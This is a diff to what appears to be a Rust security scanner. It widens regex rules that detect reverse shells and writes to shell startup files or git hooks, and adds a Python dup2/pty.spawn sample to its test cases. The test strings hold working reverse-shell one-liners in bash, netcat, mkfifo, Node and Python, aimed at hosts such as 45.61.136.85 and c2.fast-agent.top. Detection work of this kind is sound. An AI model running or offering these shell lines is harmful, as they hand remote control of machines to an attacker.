@@ -17,7 +17,7 @@ static REVERSE_SHELL: Signal = Signal::command(
       \bopen\s*\(?\s*STDIN\s*,\s*["'][<>]&\w+["'][^\n]*\bexec\b | (?:ba|z|k)?sh\s+-i\s*[^\n]*(?:>&|&>|<|0>)[^\n]{0,20}/dev/(?:tcp|udp)/ | \bexec\s+\d+<>\s*/dev/(?:tcp|udp)/ | /dev/(?:tcp|udp)/[^\n]*(?:0>&1|<&1|>&\s*\d)
     | \b(?:nc|ncat|netcat)(?:\.\w+)?\b[^\n]*?\s(?:-\w*[ec]\b|--exec|--sh-exec|-c)\s*["']?(?:/bin/|/usr/bin/|cmd|powershell|(?:ba|z)?sh\b) | \b(?:nc|ncat|netcat)\b[^\n|]*\|\s*(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\b
     | \bmk(?:fifo|nod)\b[^\n]*(?:;|&&|\n)[^\n]*(?:\bnc\b|\bncat\b|\btelnet\b|openssl\s+s_client) | \bsocat\b[^\n]*\bexec: | \bsocat\b[^\n]*\bEXEC\b
-    | \bos\.dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*(?:[012]\s*\)|\w+\s*\)\s*for\s+\w+\s+in\b) | \.connect\s*\(\s*\(\s*["'][^"'\n]{3,60}["']\s*,\s*\d{2,5}\s*\)\s*\)[\s\S]*?(?:dup2|pty\.spawn|subprocess\.(?:call|run|Popen)\s*\(\s*\[?\s*["']/bin/(?:ba)?sh)
+    | \bos\.dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*(?:[012]\s*\)|\w+\s*\)\s*for\s+\w+\s+in\b) | \bfor\s+\w+\s+in\s+(?:range\(\s*3\s*\)|[\[(]\s*0\s*,\s*1\s*,\s*2\s*[\])])\s*:\s*os\.dup2\s*\( | \.connect\s*\(\s*\(\s*(?:["'][^"'\n]{3,60}["']|\w+)\s*,\s*(?:\d{2,5}|\w+)\s*\)\s*\)[\s\S]*?(?:dup2|pty\.spawn|subprocess\.(?:call|run|Popen)\s*\(\s*\[?\s*["']/bin/(?:ba)?sh)
     | \bfsockopen\s*\([^\n]*(?:proc_open|shell_exec|exec)\s*\( | \bTCPSocket\.(?:new|open)\b[^\n]*(?:exec|popen|\x60) | (?:net\.(?:Socket|connect|createConnection)\b|\brequire\s*\(\s*["'](?:node:)?net["']\s*\))[\s\S]*?\.pipe\s*\(\s*\w+\.stdin
     | \bperl\s+-\w*e\s[^\n]*\bsocket\s*\([^\n]*\bexec\b | Net\.Sockets\.TCPClient\b[^\n]*(?:iex|Invoke-Expression|GetStream) | \bIO::Socket::INET\b[^\n]*\bexec\b
     | \bawk\b[^\n]*/inet/(?:tcp|udp)/[^\n]*\bgetline\b | \btelnet\b[^\n|]*\|\s*(?:/bin/)?(?:ba|z|da)?sh\b
@@ -49,7 +49,7 @@ static PROFILE_WRITE: Signal = Signal::command(
     r#"(?x)
       (?:>>|tee\s+-a|>>\s*["']?)\s*["']?(?:~|\$HOME|/root|/home/\w+|\$\{HOME\})?/?\.(?:bashrc|zshrc|profile|bash_profile|zprofile|zshenv)\b | (?:>>|Add-Content\b[^\n]*)\s*\$PROFILE\b | >>\s*\S*config\.fish
     | (?:>|cp\s+\S+|mv\s+\S+|tee)\s*["']?\S*\.git/hooks/\w+ | \bgit\s+config\s+--global\s+(?:core\.hooksPath|init\.templateDir) | open\s*\(\s*[^)\n]*\.(?:bashrc|zshrc|profile|bash_profile)["']\s*\)?\s*,\s*["']a
-    | \b(?:(?:write|append)File(?:Sync)?|WriteFile|open|Path|File\.write)\s*\(\s*[^)\n]{0,60}\.git/hooks/\w+ | >\s*[^\n]*\b(?:get)?site-?packages\b[^\n]*\.pth\b"#,
+    | \b(?:(?:write|append)File(?:Sync)?|WriteFile|open|Path|File\.write)\s*\(\s*[^)\n]{0,60}\.git/hooks/\w+ | ["']\.(?:zshrc|bashrc|profile|bash_profile|zprofile|zshenv)["'][^\n]*(?:\n[^\n]*){0,2}?\.(?:write_text|open\(\s*["'][aw]) | >\s*[^\n]*\b(?:get)?site-?packages\b[^\n]*\.pth\b"#,
 );
 
 pub(super) static FETCH_OR_HIDE: Signal = Signal::command(
@@ -107,6 +107,7 @@ pub(super) static RULES: &[Rule] = &[
             "@a.js\nconst n = require('net'), c = require('child_process');\nconst s = n.connect(99, '45.61.136.85');\nconst p = c.spawn('/bin/sh');\ns.pipe(p.stdin);\n",
             "```bash\nbash -i >& /dev/tcp/45.61.136.85/4444 0>&1\n```\n",
             "```bash\nnc -l -p 4444 -e /bin/sh\n```\n",
+            "@a.py\ns.connect((h, p))\nfor fd in range(3):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/bash')\n",
             "@a.py\ns.connect((\"c2.fast-agent.top\",4444))\nos.dup2(s.fileno(),0)\nsubprocess.call([\"/bin/sh\",\"-i\"])\n",
             "```bash\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 45.61.136.85 9001 > /tmp/f\n```\n",
         ],
